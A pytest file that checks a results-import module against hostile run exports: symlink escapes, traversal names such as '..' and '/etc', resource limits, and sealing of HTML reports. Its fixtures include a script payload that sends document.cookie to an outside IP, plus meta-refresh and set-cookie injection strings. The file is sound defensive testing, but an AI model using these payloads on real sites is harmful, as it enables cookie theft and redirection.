"""Hostile exports: nothing outside of results/ changes, nothing takes long or much, and the good run is fetched."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from ansible_collections.edge_ai.cluster.plugins.module_utils import results as program

from tests.support import hostile
from tests.support.paths import ROOT

SCHEMA = ROOT / "notebooks/timings.schema.json"
MODULE = """
import sys
from ansible.module_utils.testing import patch_module_args
from ansible_collections.edge_ai.cluster.plugins.modules import notebooks_state
import json
with patch_module_args(json.load(sys.stdin)):
    notebooks_state.main()
"""


# Started by a small process: the kernel counts the memory that the starting process has as used by the started one.
MEASURE = """
import json, os, subprocess, sys
process = subprocess.Popen(sys.argv[2:])
_, status, usage = os.wait4(process.pid, 0)
with open(sys.argv[1], "w") as file:
    json.dump([os.waitstatus_to_exitcode(status), usage.ru_utime + usage.ru_stime, usage.ru_maxrss], file)
"""


class Done(NamedTuple):
    """A program that ended."""

    code: int
    out: str
    err: str


@pytest.fixture
def place() -> Iterator[Path]:
    """Folders that the user of an export may enter, unlike those of pytest."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
        Path(name).chmod(0o755)
        for folder in ("export", "outside", "results"):
            (Path(name) / folder).mkdir()
        (Path(name) / "outside/home").mkdir()
        (Path(name) / "outside/home/authorized_keys").write_text("mine")
        (Path(name) / "outside/secret").write_text("secret")
        (Path(name) / "outside/secret").chmod(0o600)
        yield Path(name)
        hostile.stop()


def run(arguments: list[str], given: Path) -> Done:
    """A program that must take less than 10 s of a processor and 256 MB."""
    environment = {**os.environ, "PYTHONPATH": f"{ROOT}/collections:{ROOT}", "LC_ALL": "C.UTF-8"}
    with given.open("rb") as stdin, tempfile.NamedTemporaryFile() as used:
        process = subprocess.run(
            # -S: it needs no packages, and looks for none.
            [sys.executable, "-S", "-c", MEASURE, used.name, sys.executable, *arguments],
            stdin=stdin, capture_output=True, text=True, check=True, env=environment, cwd="/",
        )  # fmt: skip
        code, seconds, kibibytes = json.load(used)
    done = Done(code, process.stdout, process.stderr)
    assert seconds < 11, "too long"
    assert kibibytes < 256 * 1024, f"{kibibytes} KiB"
    assert "Traceback" not in done.err, done.err
    return done


def snapshot(folder: Path) -> dict[str, Any]:
    """All that is in a folder: kind, mode, time of change and content."""
    found = {}
    for path in sorted(folder.rglob("*")):
        status = path.lstat()
        content = path.read_bytes() if path.is_file() else b""
        found[str(path)] = (status.st_mode, status.st_uid, status.st_mtime_ns, content)
    return found


def state(place: Path) -> dict[str, Any]:
    arguments = {"export": str(place / "export"), "files": {"notebooks/run.py": "0" * 64}, "inputs_digest": "ab" * 32}
    (place / "arguments").write_text(json.dumps(arguments))
    done = run(["-c", MODULE], place / "arguments")
    found: dict[str, Any] = json.loads(done.out)
    assert done.code == 0, found
    return found


def collect(place: Path, found: dict[str, Any]) -> list[str]:
    """What notebooks_results does with the candidates, but for the way from the board; the messages."""
    messages = []
    for one in found["candidates"]:
        target = program.target_of(place / "results", one["run"])
        archive = place / "export/runs" / target.name / "results.tar.gz"
        assert archive.lstat().st_size <= 32 << 20 and archive.is_file()
        arguments = ["-m", program.__name__, str(place / "results"), one["run"], one["archive_sha256"], str(SCHEMA)]
        done = run(arguments, archive)
        if done.code == 0:
            program.link(place / "results", one["run"])
            return messages
        assert not target.exists()
        messages.append(done.err)
    raise AssertionError(f"the good run did not come home: {messages}")


def belongs_to_the_share(export: Path) -> None:
    if os.geteuid() == 0:
        for path in (export, *export.rglob("*")):
            # A case that changes while it is read has files that are absent for a moment.
            with contextlib.suppress(FileNotFoundError):
                os.chown(path, 10001, 10001, follow_symlinks=False)


@pytest.mark.parametrize("name", sorted(hostile.CASES))
def test_a_hostile_run_does_no_harm_and_the_good_one_is_fetched(place: Path, name: str) -> None:
    hostile.build(place / "export", place / "outside", [name])
    belongs_to_the_share(place / "export")
    outside = snapshot(place / "outside")
    began = time.monotonic()
    found = state(place)
    messages = [*found["refused"], *collect(place, found)]
    assert time.monotonic() - began < 60
    assert snapshot(place / "outside") == outside
    assert not (place / "escaped").exists()
    home = sorted(path.name for path in (place / "results").iterdir())
    # What complete.json says of names is not used: such a run is fetched under the name of its folder.
    wanted = "20261122T021500Z-00000000" if name in ("absolute_run", "run_with_dots") else hostile.GOOD
    assert home == sorted((wanted, "latest")), messages
    assert (place / "results/latest").readlink() == Path(wanted)
    for message in messages:
        assert message.strip().isprintable(), repr(message)
        assert len(message) < 2000


def test_every_refusal_names_the_file(place: Path) -> None:
    hostile.build(place / "export", place / "outside", sorted(hostile.CASES))
    belongs_to_the_share(place / "export")
    found = state(place)
    assert len(found["refused"]) > 10
    for message in found["refused"][:-1]:
        assert re.match(rf"{place}/export/runs/\S+", message), message


def test_folders_and_links_at_the_top_are_not_followed(place: Path) -> None:
    (place / "outside/runs").mkdir()
    hostile.good(place / "outside/runs" / hostile.GOOD)
    (place / "export/runs").symlink_to(place / "outside/runs")
    (place / "export/notebooks").symlink_to(place / "outside")
    belongs_to_the_share(place / "export")
    arguments = {"export": str(place / "export"), "files": {"notebooks/secret": "0" * 64}, "inputs_digest": "ab" * 32}
    (place / "arguments").write_text(json.dumps(arguments))
    done = run(["-c", MODULE], place / "arguments")
    assert done.code == 1
    assert f"{place}/export/runs: leads over a link or a file" in json.loads(done.out)["msg"]


def test_a_page_of_a_run_can_run_no_script(place: Path) -> None:
    page = b"<html><script>fetch('http://10.77.0.1/' + document.cookie)</script></html>"
    record = json.dumps(hostile.timings()).encode()
    hostile.complete(place / "export/runs" / hostile.GOOD, hostile.tar(("timings.json", record), ("report.html", page)))
    belongs_to_the_share(place / "export")
    assert collect(place, state(place)) == []
    written = (place / "results/latest/report.html").read_bytes()
    assert written.startswith(
        b'<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="default-src \'none\';'
    )
    assert written.endswith(page)


@pytest.mark.parametrize(
    "order",
    [
        b'<meta http-equiv="refresh" content="0;url=http://10.77.0.1/">',
        b"<META content='0;url=http://10.77.0.1/' HTTP-EQUIV=&#114;efresh>",
        b"<meta/hTTp-eQuiv=set-cookie content=a=b>",
    ],
)
def test_a_page_of_a_run_gives_the_browser_no_orders(tmp_path: Path, order: bytes) -> None:
    page = tmp_path / "report.html"
    page.write_bytes(b"<html><head>" + order + b"</head><body>seen</body></html>")
    program.seal(page)
    written = page.read_bytes()
    seal, _, rest = written.partition(b"<html>")
    # The first statement of the encoding counts: in others the bytes of a word need not be together.
    assert seal.endswith(b'<meta charset="utf-8">') and len(seal) < 1024
    assert b"form-action 'none'" in seal and b"base-uri 'none'" in seal
    assert not re.search(rb"[\s/]http-equiv", rest, re.IGNORECASE)
    assert rest.endswith(b"<body>seen</body></html>")


@pytest.mark.parametrize(
    "name", ["..", ".", "", "/etc", "latest", "20261101T000000Z-1a2b3c4d/..", "20261101T000000Z-1a2b3c4d\n"]
)
def test_a_name_that_is_no_run_s_is_refused_before_anything_is_touched(place: Path, name: str) -> None:
    (place / "archive").write_bytes(hostile.tar(hostile.record()))
    before = snapshot(place)
    done = run(["-m", program.__name__, str(place / "results"), name, "0" * 64, str(SCHEMA)], place / "archive")
    assert done.code == 1 and "does not match" in done.err
    assert snapshot(place) == before


def test_what_a_killed_run_left_is_replaced_and_a_link_in_its_place_is_not_followed(place: Path) -> None:
    (place / "results" / hostile.GOOD).symlink_to(place / "outside")
    hostile.build(place / "export", place / "outside", [])
    belongs_to_the_share(place / "export")
    outside = snapshot(place / "outside")
    assert collect(place, state(place)) == []
    assert snapshot(place / "outside") == outside
    assert not (place / "results" / hostile.GOOD).is_symlink()
    shutil.rmtree(place / "results" / hostile.GOOD)
